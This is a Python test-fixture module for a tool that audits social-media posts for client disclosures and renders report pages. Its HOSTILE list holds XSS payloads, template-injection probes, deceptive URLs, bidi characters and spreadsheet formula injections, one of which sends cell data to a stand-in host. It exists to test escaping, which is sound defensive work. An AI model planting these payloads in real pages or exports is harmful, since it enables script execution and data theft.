"""Builders for findings and pages, all invented, and the hostile strings that a page must survive."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from audit import standards
from audit.finding import Axis, Band, Evidence, Finding, Identifier, Judgement, List, Score
from audit.fingerprint import finding_id
from audit.post import Audience, Post, Precision, judged_text
from reports.page import Page

STORY = "Sat with the boy on Elm Row again today. He told me he hid under the stairs on Friday."
PLATFORMS = ("x", "reddit", "facebook", "instagram", "mastodon", "blog")

HOSTILE = (
    "<script>window.XSS=1</script>",
    "</script><script>window.XSS=1</script>",
    "<!--<script>",
    "<img src=x onerror=window.XSS=1>",
    '"><svg/onload=window.XSS=1>',
    "' onmouseover='window.XSS=1",
    "{{7*7}}${7*7}{% raw %}",
    "one\u2028two\u2029three",
    "javascript:window.XSS=1//",
    "data:text/html,<script>window.XSS=1</script>",
    "java\tscript:window.XSS=1",
    "https://evil.example@x.com/<b>?a=1&b=2",
    "left \u202eright\u202c and \u2066isolated\u2069",
    "Z" + "\u0301" * 240,
    '=HYPERLINK("http://e.example/?"&A1,"x")',
    "+1+1 and -2+3",
    "@SUM(1+1)",
    "\t=1+1 and \r=1+1",
    "＝1+1",
    'a,"b"\nc;d\re',
    "\0 \x07 \x1b[31m",
    "lone \ud800 half",
    "x" * 20_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 the boy on Elm Row",
    "\ufeff__proto__ &lt;b&gt; &amp;#60;",
)


def score(level: int, sure: float = 0.9) -> Score:
    """Return a score of a level with that much probability on it, the rest spread evenly."""
    rest = round((1 - sure) / 3, 4)
    levels = [sure if n == level else rest for n in range(4)]
    return Score(level, (levels[0], levels[1], levels[2], levels[3]))


def spans(text: str, axis: Axis, *words: str) -> tuple[Evidence, ...]:
    """Return evidence for words that stand in the text."""
    starts = [(text.index(word), word) for word in words]
    return tuple(Evidence(axis, start, start + len(word), word) for start, word in starts)


def named(text: str, **words: str) -> tuple[Identifier, ...]:
    """Return identifiers, kind=word, for words that stand in the text."""
    return tuple(
        Identifier(kind, text.index(word), text.index(word) + len(word), word)
        for kind, word in words.items()
    )


def finding(
    text: str = STORY,
    *,
    d: int = 2,
    v: int = 0,
    place: List = List.CONSIDER,
    band: Band = Band.HIGH,
    sure: float = 0.9,
    tags: Iterable[str] = (),
    evidence: tuple[Evidence, ...] = (),
    identifiers: tuple[Identifier, ...] = (),
    reasons: tuple[str, ...] = ("d2",),
    exposure: tuple[str, ...] = ("public",),
    suggestion: str = "",
    group_id: str = "",
    post_id: str = "1620000000000000001",
    **post: Any,
) -> Finding:
    """Return a finding; by default a client story on X."""
    details: dict[str, Any] = {
        "platform": "x",
        "account": "ana",
        "created_at": datetime(2019, 5, 14, 9, tzinfo=UTC),
        "time_precision": Precision.SECOND,
        "audience": Audience.PUBLIC,
        "permalink": f"https://x.com/ana/status/{post_id}",
        **post,
    }
    made = Post(post_id=post_id, text=text, **details)
    judgement = Judgement(
        score(d, sure), score(v, sure), dict.fromkeys(tags, 0.9), evidence, identifiers
    )
    return Finding(
        finding_id=finding_id(made.platform, post_id),
        post=made,
        judgement=judgement,
        text=judged_text(made),
        list=place,
        band=band if place is List.CONSIDER else Band.NONE,
        order=0,
        confidence=sure,
        exposure=exposure,
        reasons=reasons,
        standards=standards.speaking_of(judgement) if band is not Band.UNSURE else (),
        suggestion=suggestion,
        group_id=group_id,
    )


def story(number: int = 1, **details: Any) -> Finding:
    """Return a client story with evidence and identifiers marked."""
    return finding(
        evidence=spans(STORY, Axis.DISCLOSURE, "the boy on Elm Row", "hid under the stairs"),
        identifiers=named(STORY, place_or_organisation="Elm Row", date_or_time="Friday"),
        reasons=("d2", "place_or_organisation", "date_or_time"),
        post_id=str(number),
        **details,
    )


def many(count: int) -> list[Finding]:
    """Return ranked findings of every list and band: two thirds to consider, the rest split."""
    consider, first = count * 2 // 3, count * 5 // 6
    made = []
    for n in range(count):
        details: dict[str, Any] = {
            "platform": PLATFORMS[n % len(PLATFORMS)],
            "created_at": datetime(2012 + n % 13, 1 + n % 12, 3, tzinfo=UTC)
            + timedelta(days=n % 20),
            "exposure": ("public", "minor", "recent")[: n % 4],
        }
        if n < consider:
            band = (Band.URGENT, Band.HIGH, Band.MEDIUM, Band.UNSURE)[n * 4 // consider]
            sure = 0.4 if band is Band.UNSURE else 0.9
            made.append(story(n, band=band, sure=sure, tags=("minor",), **details))
        elif n < first:
            made.append(rant(n, **details))
        else:
            made.append(general(n, **details))
    return made


def rant(number: int = 2, **details: Any) -> Finding:
    """Return a post on staffing that is to be known about before anybody acts."""
    return finding(
        f"Third week in a row without cover. Management could not care less. ({number})",
        **{
            "d": 0,
            "v": 2,
            "place": List.KNOW_FIRST,
            "tags": ("protected_activity", "employer_target"),
            "reasons": ("v2", "at_employer", "protected_activity"),
            "suggestion": "keep",
            "post_id": str(number),
            **details,
        },
    )


def general(number: int = 3, **details: Any) -> Finding:
    """Return practice talk, listed on request only."""
    return finding(
        f"Three home visits and a long drive. ({number})",
        d=1,
        place=List.ON_REQUEST,
        reasons=("d1",),
        **{"post_id": str(number), **details},
    )


def hard_day(number: int = 4, **details: Any) -> Finding:
    """Return a post that was written on a hard day."""
    return finding(
        f"I do not know how much longer I can do this. ({number})",
        d=0,
        v=1,
        place=List.ON_REQUEST,
        tags=("crisis_self",),
        reasons=("v1", "crisis_self"),
        **{"post_id": str(number), **details},
    )


def hostile() -> list[Finding]:
    """Return a finding for each hostile string: in its text, its account and its link."""
    made = []
    for n, text in enumerate(HOSTILE):
        words = "the boy on Elm Row"
        evidence = spans(text, Axis.DISCLOSURE, words) if words in text else ()
        details: dict[str, Any] = {"account": text[:60], "permalink": text[:200]}
        found = finding(text, evidence=evidence, post_id=f"hostile-{n}", **details)
        made.append(replace(found, text=text))  # unstripped, as no connector would leave it
    return made


def coverage(**changes: Any) -> dict[str, Any]:
    """Return a coverage of two sources with something of everything."""
    x = {
        "source": "twitter-2023.zip",
        "platform": "x",
        "account": "ana",
        "found": 4330,
        "read": 4200,
        "scored": 4000,
        "skipped": {"direct_message": 100, "other_author": 28},
        "unreadable": [{"where": "data/tweets.js, item 17", "why": "bad_row", "n": 2}],
        "kinds": {"post": 4200},
        "states": {"live": 4200},
        "first": "2012-01-03T10:00:00Z",
        "last": "2023-05-04",
        "images_not_read": 311,
        "videos_not_heard": 12,
        "not_english": 9,
        "members_not_opened": {"messages": 3, "assets": 120},
        "warnings": ["the export names 4,332 posts and holds 4,330"],
    }
    reddit = {
        **x,
        "source": "reddit.zip",
        "platform": "reddit",
        "account": "ana_sw",
        "found": 1800,
        "read": 1800,
        "scored": 1800,
        "skipped": {},
        "unreadable": [],
        "first": None,
        "last": None,
        "images_not_read": 0,
        "videos_not_heard": 0,
        "not_english": 0,
        "members_not_opened": {},
        "warnings": [],
    }
    return {"sources": [{**x, **changes}, reddit], "totals": {}, "model": "small@1"}


def page(findings: Sequence[Finding] = (), **details: Any) -> Page:
    """Return a page of findings; the hold question is not answered."""
    return Page(
        **{
            "findings": findings,
            "listed": len(findings),
            "coverage": coverage(),
            "hold": "unsure",
            "model": "small@1",
            "generated_at": datetime(2026, 11, 23, 12, tzinfo=UTC),
            "workspace": "w-1f3a",
            "quality": "On test posts it found 85 of 100 client stories.",
            **details,
        }
    )
